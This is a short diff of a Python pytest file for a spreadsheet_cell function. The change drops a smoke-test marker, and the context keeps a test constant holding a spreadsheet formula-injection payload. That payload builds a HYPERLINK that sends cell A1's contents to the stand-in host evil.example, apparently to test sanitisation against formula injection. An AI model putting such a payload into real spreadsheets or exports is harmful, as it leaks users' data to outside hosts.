@@ -12,7 +12,7 @@ import pytest
 
 from gateway.usage_api import spreadsheet_cell
 
-pytestmark = [pytest.mark.django_db, pytest.mark.smoke]
+pytestmark = pytest.mark.django_db
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
